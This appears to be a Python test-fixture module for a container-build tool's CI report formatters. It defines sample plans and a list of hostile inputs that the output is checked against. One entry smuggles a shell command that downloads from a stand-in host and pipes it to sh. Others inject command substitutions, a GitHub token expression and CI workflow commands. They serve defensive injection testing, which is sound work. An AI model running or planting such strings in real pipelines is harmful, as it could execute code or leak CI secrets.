"""Answers to put into formats: the small shop, nothing at all, many images, and names that mean something elsewhere."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from dataclasses import replace

from mbuild.errors import Where
from mbuild.graph.affected import Reason
from mbuild.output.report import HeadInfo, ImageReport, Report

HEAD = HeadInfo("work tree", "0" * 40, True)
PROVIDERS = ("github", "gitlab", "buildkite", "circleci", "azure")

# Words that YAML, HCL, shells and the providers' own files give a meaning to.
ODD_NAMES: tuple[str, ...] = (
    "1e3",
    "0x10",
    "0b1",
    "null",
    "true",
    "on",
    "y",
    "12",
    "1_000",
    "2001-01-01",
    "image",
    "cache",
    "stages",
)
ODD_NAMES += (
    "default",
    "pages",
    "include",
    "a/b",
    "a.b",
    "a_b",
    "a/b.c__d--e",
    "end",
    "nothing-to-build",
    "1.5",
    "0o7",
)


def planned(parents: Mapping[str, Sequence[str]], **more: object) -> Report:
    """Return a plan that builds these images."""
    images = tuple(
        ImageReport(name, True, (), f"{name}/Dockerfile", name, None, tuple(used), (), action="build")
        for name, used in sorted(parents.items())
    )
    return replace(Report("affected", None, HEAD, images), **more)  # type: ignore[arg-type]


SHOP = planned({"base": (), "api": ("base",), "tools/lint": (), "web": ("api", "base")})
EMPTY = planned({})
ODD = planned({name: () if name == "a.b" else ("a.b",) for name in ODD_NAMES})
MANY = planned({f"i{number:04d}": ("i0000",) if number else () for number in range(1200)})

HOSTILE = (
    '"; curl evil.example | sh; "',
    "$(touch /tmp/x)",
    "`id`",
    "${{ github.token }}",
    "${HOME}%{if true}",
    "::set-output name=x::y",
    "##vso[task.setvariable variable=x]y",
    "a\n::error::b\nscript: [evil]",
    "]]><x/>",
    "\udcff\x1b[31m\u2028",
)


def spoiled(report: Report, text: str) -> Report:
    """Return an answer whose paths, stages and reasons are somebody else's text; names have a grammar."""
    why = (Reason("file-changed", path=text, change="modified", where=Where(text, 3)),)
    images = tuple(
        replace(each, dockerfile=text, context_root=text, target=text, reasons=why) for each in report.images
    )
    return replace(report, images=images, unowned=(text,), removed=(text,))
